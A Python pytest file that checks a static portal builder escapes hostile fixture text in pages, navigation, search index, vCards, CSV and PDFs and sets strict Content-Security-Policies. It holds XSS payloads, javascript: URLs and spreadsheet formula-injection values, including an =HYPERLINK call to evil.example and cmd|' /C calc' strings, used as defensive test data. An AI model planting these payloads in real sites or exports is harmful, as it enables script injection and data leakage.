"""Hostile texts that are valid content (tests/hostile/site/: a country, an objective and a
page whose names, titles and contacts carry HTML, Markdown, script URLs and spreadsheet
formulas) reach every output as text: navigation, <title>, meta description, headings,
previous/next links, search index, tables, vCards and CSV. Every page carries a
Content-Security-Policy that allows exactly its own inline scripts.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import html
import io
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from sitebuild import copy_tree

# Markup that must never appear as markup in any output meant for a browser.
LIVE = re.compile(
    r"<img src=x|<script>alert|<svg onload|<iframe src=|<b onmouseover|href=\"javascript:"
    r"|href=\"data:|<a [^>]*\sonmouseover=|\bid=\"pwn\"|class=\"pwn\"",
    re.I,
)
IMG = "&lt;img src=x onerror=alert(1)&gt;"


@pytest.fixture(scope="module")
def site(builds) -> Path:
    """The hostile portal's web edition, without PDFs (shared with tests/browser/test_security.py)."""
    return builds.get("hostile").site


def read(site: Path, rel: str) -> str:
    return (site / rel).read_text(encoding="utf-8")


def test_no_output_for_browsers_holds_live_markup(site):
    checked = 0
    for path in site.rglob("*"):
        if path.suffix in (".html", ".js", ".vcf", ".xml") and "assets" not in path.parts:
            text = path.read_text(encoding="utf-8")
            found = LIVE.search(text)
            assert found is None, f"{path.relative_to(site)}: {found[0]!r}"
            checked += 1
    assert checked > 60


@pytest.mark.parametrize(
    "page, title, heading",
    [
        ("countries/hostile/index.html", IMG, IMG),
        (
            "fr/countries/hostile/index.html",
            "[x](javascript:alert(1)) {onmouseover=alert(1)}",
            "&#91;x&#93;(javascript:alert(1)) &#123;onmouseover=alert(1)&#125;",
        ),
        (
            "ru/countries/hostile/index.html",
            "&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
            "&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
        ),
        (
            "ar/countries/hostile/index.html",
            "*em* _em_ `code` {#pwn .pwn} ![i](data:x) &lt;svg onload=alert(1)&gt;",
            "&#42;em&#42; &#95;em&#95; &#96;code&#96; &#123;&#35;pwn .pwn&#125; "
            "&#33;&#91;i&#93;(data:x) &lt;svg onload=alert(1)&gt;",
        ),
        (
            "objectives/hostile/index.html",
            f"Objective 3: [Objective](javascript:alert(1)) {IMG} {{onclick=alert(1)}}",
            f"Objective 3: &#91;Objective&#93;(javascript:alert(1)) {IMG} "
            "&#123;onclick=alert(1)&#125;",
        ),
    ],
)
def test_names_and_titles_are_text_in_title_and_heading(site, page, title, heading):
    text = read(site, page)
    assert re.search(f"<title>{re.escape(title)} - [^<]+</title>", text)  # the site name
    h1 = re.search(r"<h1[^>]*>(.*?)<a class=\"headerlink\"", text)[1]
    # Right-to-left pages isolate left-to-right runs in <bdi>: compare the text a reader gets.
    unwrapped = re.sub(r'</?bdi(?: dir="ltr")?>', "", h1)
    assert html.unescape(unwrapped) == html.unescape(heading)
    assert "<" not in html.unescape(re.sub(r"</?bdi[^>]*>", "", h1).replace("&lt;", ""))


def test_names_are_text_in_navigation_and_previous_next_links(site):
    morocco = read(site, "countries/morocco/index.html")
    assert f'class="md-nav__link">\n        \n  \n  <span class="md-ellipsis">\n    {IMG}' in (
        morocco
    ) or re.search(
        r"md-nav__link[^>]*>\s*<span class=\"md-ellipsis\">\s*" + re.escape(IMG), morocco
    )
    colombia = read(site, "countries/colombia/index.html")  # hostile comes next, sorted by slug
    footer = colombia[colombia.index('<nav class="md-footer__inner') :]
    assert IMG in footer[: footer.index("</nav>")]


def test_page_title_and_description_from_front_matter_are_text(site):
    page = read(site, "hostile/index.html")
    assert f"<title>{IMG} - Fixture portal</title>" in page
    assert (
        '<meta name="description" content="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">'
        in page
    )


def test_search_index_titles_are_escaped(site):
    docs = json.loads(read(site, "search/search_docs.json"))
    titles = {d["location"]: d["title"] for d in docs}
    assert titles["countries/hostile/"] == IMG
    for doc in docs:
        assert "<img" not in doc["title"] and "<script" not in doc["title"], doc["location"]
        assert not LIVE.search(doc["text"]), doc["location"]


def test_tables_show_texts_escaped(site):
    page = read(site, "countries/hostile/index.html")
    assert "&lt;script&gt;alert(1)&lt;/script&gt; Rue [x](javascript:alert(1))" in page
    assert (
        '<span class="portal-title">Law [x](javascript:alert(1)) &lt;b onmouseover=alert(1)&gt;'
        "bold&lt;/b&gt;</span>" in page
    )
    assert "&lt;/i&gt;&lt;script&gt;alert(1)&lt;/script&gt;</i>" in page
    assert 'href="https://example.org/law?a=1&amp;b=&#34;&gt;&lt;script&gt;' in page
    assert "&lt;iframe src=https://evil.example/&gt;&lt;/iframe&gt;" in page


def test_narrative_keeps_the_allowed_markup(site):
    page = read(site, "countries/hostile/index.html")
    assert '<abbr title="Trafficking in persons">TIP</abbr>' in page
    assert "H<sub>2</sub>O, 10<sup>th</sup>" in page
    assert "<details><summary>More</summary>" in page
    # What editors write to show a tag (inside a raw HTML block, Markdown leaves ` alone).
    assert "To show a tag, write it with entities: `&lt;script&gt;`." in page
    assert "portal-narrative" not in page  # the second wall's markers are gone


def test_vcards_escape_line_breaks_commas_semicolons_and_backslashes(site):
    first = (site / "downloads/contacts/hostile-1.vcf").read_bytes().decode()
    assert first == (
        "BEGIN:VCARD\r\nVERSION:3.0\r\nEMAIL;TYPE=work:ana@example.org\r\n"
        'FN:=HYPERLINK("https://evil.example/?"&A1\\,"Click")\r\n'
        'N:=HYPERLINK("https://evil.example/?"&A1\\,"Click");;;;\r\n'
        "NOTE:Verified 2026-11-01\r\nORG:@SUM(1+1)*cmd|' /C calc'!A0\r\n"
        "SOURCE:https://example.org/contact\r\nTEL;TYPE=work:+43 1 26060\r\n"
        "TITLE:+cmd|' /C calc'!A0\r\nEND:VCARD\r\n"
    )
    second = (site / "downloads/contacts/hostile-2.vcf").read_bytes().decode()
    assert "FN:Back\\\\slash\\, Comma\\; Semicolon\r\n" in second
    assert "N:Semicolon;Back\\\\slash\\, Comma\\;;;;\r\n" in second
    assert second.count("BEGIN:VCARD") == 1


def test_csv_cells_that_spreadsheets_would_run_start_with_a_quote(site):
    rows = list(csv.reader(io.StringIO(read(site, "downloads/data/contacts.csv"))))
    hostile = [r for r in rows if r[1] == "hostile"]
    assert hostile[0][2:7] == [
        '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "'+cmd|' /C calc'!A0",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "ana@example.org",
        "'+43 1 26060",
    ]
    assert hostile[1][2:4] == ["Back\\slash, Comma; Semicolon", "'-2+3"]
    assert "leading apostrophe" in read(site, "open-data/index.html")


def _inline_script_hashes(page: str) -> list[str]:
    """The SHA-256 sources of a page's executable inline scripts, read by an HTML parser."""
    found: list[str] = []

    class Scripts(HTMLParser):
        inline = False

        def handle_starttag(self, tag, attrs):
            kind = dict(attrs).get("type") or ""
            self.inline = tag == "script" and "src" not in dict(attrs) and "json" not in kind

        def handle_data(self, data):
            if self.inline:
                source = base64.b64encode(hashlib.sha256(data.encode()).digest()).decode()
                if f"'sha256-{source}'" not in found:
                    found.append(f"'sha256-{source}'")
            self.inline = False

    Scripts().feed(page)
    return found


def test_every_page_has_a_policy_allowing_exactly_its_inline_scripts(site):
    pages = [p for p in site.rglob("*.html") if "assets" not in p.parts]
    assert len(pages) > 60
    for path in pages:
        text = path.read_text(encoding="utf-8")
        m = re.search(
            r'<head>\s*<meta http-equiv="Content-Security-Policy" content="([^"]+)">', text
        )
        assert m, path.relative_to(site)
        policy = dict(part.split(" ", 1) for part in m[1].split("; "))
        scripts = policy["script-src"].split()
        assert "'unsafe-inline'" not in scripts and "'unsafe-eval'" not in scripts
        without_meta = text.replace(m[0], "<head>")
        assert scripts == ["'self'", *_inline_script_hashes(without_meta)], path
        assert policy["base-uri"] == "'none'" and policy["object-src"] == "'none'"
    assert "Content-Security-Policy" in read(site, "404.html")
    assert "Content-Security-Policy" in read(site, "fr/404.html")


def test_the_pdf_of_a_hostile_page_shows_the_text_and_carries_no_action(site, tmp_path):
    import datetime as dt
    import subprocess

    from pypdf import PdfReader

    from portal import i18n, pdf, pdf_document

    site = copy_tree(site, tmp_path / "site")  # the PDF is written into the site

    doc = pdf_document.Doc(
        "hostile.en.pdf",
        "hostile",
        "en",
        [pdf_document.Part("countries/hostile/", "hostile", "en")],
        "page",
    )
    words = i18n.Labels.of_portal(None, {"en": "Fixture portal"}, "en")
    date = dt.date(2026, 11, 28)
    report = pdf.render([doc], site, tmp_path / "cache", "", "Fixture portal", date, 1, words=words)
    assert report.failed == [] and report.rendered == ["hostile.en.pdf"]
    out = site / "hostile.en.pdf"
    text = subprocess.run(
        ["pdftotext", "-layout", str(out), "-"], capture_output=True, text=True, check=True
    ).stdout
    assert "<img src=x onerror=alert(1)>" in text  # the name, shown as text
    raw = out.read_bytes()
    for action in (b"/JavaScript", b"/JS ", b"/Launch", b"/EmbeddedFile", b"javascript:"):
        assert action not in raw, action
    reader = PdfReader(out)
    for page in reader.pages:
        for annot in page.get("/Annots") or []:
            uri = annot.get_object().get("/A", {}).get("/URI", "")
            assert not str(uri).lower().startswith(("javascript:", "data:", "file:")), uri


def test_a_title_taken_from_a_heading_is_the_headings_text(site):
    # docs/heading.md has no front matter: its title comes from '# Heading &lt;/title&gt;...'.
    # The theme's `striptags` would decode those entities into a closing </title> and a live
    # script; the portal makes the title from the heading's text, escaped.
    page = read(site, "heading/index.html")
    title = re.search(r"<title>(.*?)</title>", page, re.S)[1]
    assert title.startswith("Heading &lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt; - ")
